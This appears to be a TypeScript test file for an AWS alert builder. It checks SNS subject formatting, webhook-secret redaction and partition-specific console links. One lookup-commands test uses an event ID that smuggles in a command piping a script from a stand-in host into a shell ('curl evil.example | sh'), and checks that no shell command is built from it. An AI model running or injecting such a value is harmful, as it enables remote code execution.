import fc from 'fast-check';
import { buildAlert, SUBJECT_MAX, snsMessage } from '../../src/notify';
import { report, triggerOf, WEBHOOK, WEBHOOK_SECRET, webhookSubscribed } from './reports';

describe('subjects SNS accepts', () => {
  it('are printable ASCII on one line, at most 99 characters, whatever the event says', () => {
    const base = triggerOf('cloudtrail-delete-alarms');
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 300 }), (eventName, session) => {
        const actor = { arn: `arn:aws:sts::123456789012:assumed-role/Admin/${session}`, type: 'AssumedRole' };
        const trigger = { ...base, eventName, actor };
        const { subject } = buildAlert(report('NON_COMPLIANT', { trigger, findings: [session] }));
        expect(subject.length).toBeLessThanOrEqual(SUBJECT_MAX);
        expect(subject).toMatch(/^[\x20-\x7e]*$/);
        expect(subject.startsWith('CIS 4.10 not compliant after ')).toBe(true);
      }),
    );
  });
});

describe('webhook secrets', () => {
  const secretBearing = report('REPAIRED', {
    changes: [webhookSubscribed],
    findings: [`topic has no confirmed subscriber: ${WEBHOOK} awaiting confirmation`],
    errors: [
      {
        step: 'apply subscription',
        action: 'sns:Subscribe',
        resource: 'arn:aws:sns:us-east-1:123456789012:cis-monitoring-alarms',
        code: 'InvalidParameter',
        message: `Invalid parameter: Endpoint ${WEBHOOK}`,
      },
    ],
  });

  it('never reach any part of an alert, even when a finding or an SDK error quotes the endpoint', () => {
    const alert = buildAlert(secretBearing);
    const everything = [alert.subject, snsMessage(alert), JSON.stringify(alert.attributes)].join('\n');
    expect(everything).not.toContain(WEBHOOK_SECRET);
    expect(everything).not.toContain('token=abc123');
    expect(alert.text).toContain('https://hooks.example.com/…');
    expect(alert.text).toContain('subscription https:https://hooks.example.com/… created (Subscribe)');
  });
});

describe('lookup commands', () => {
  it('are left out when the event id is not safe to paste into a shell', () => {
    const trigger = { ...triggerOf('cloudtrail-delete-alarms'), eventId: 'x; curl evil.example | sh' };
    const alert = buildAlert(report('REPAIRED', { trigger, changes: [webhookSubscribed] }));
    expect(alert.text).not.toContain('lookup-events');
    expect(alert.text).toContain('Event ID:   x; curl evil.example | sh');
    expect(alert.document.lookup).toBeUndefined();
  });

  it.each([
    ['cn-north-1', 'https://console.amazonaws.cn/cloudtrailv2/home?region=cn-north-1#/events/'],
    ['us-gov-west-1', 'https://console.amazonaws-us-gov.com/cloudtrailv2/home?region=us-gov-west-1#/events/'],
    ['eu-west-1', 'https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events/'],
  ])('link to the console of the partition of %s', (region, prefix) => {
    const trigger = { ...triggerOf('cloudtrail-delete-alarms'), region };
    const alert = buildAlert(report('REPAIRED', { region, trigger, changes: [webhookSubscribed] }));
    expect(alert.document.lookup?.console).toBe(`${prefix}0b1c2d3e-4f50-4a61-8b72-93a4b5c6d7e8`);
    expect(alert.document.lookup?.cli[0]).toContain(`--region ${region} `);
  });
});
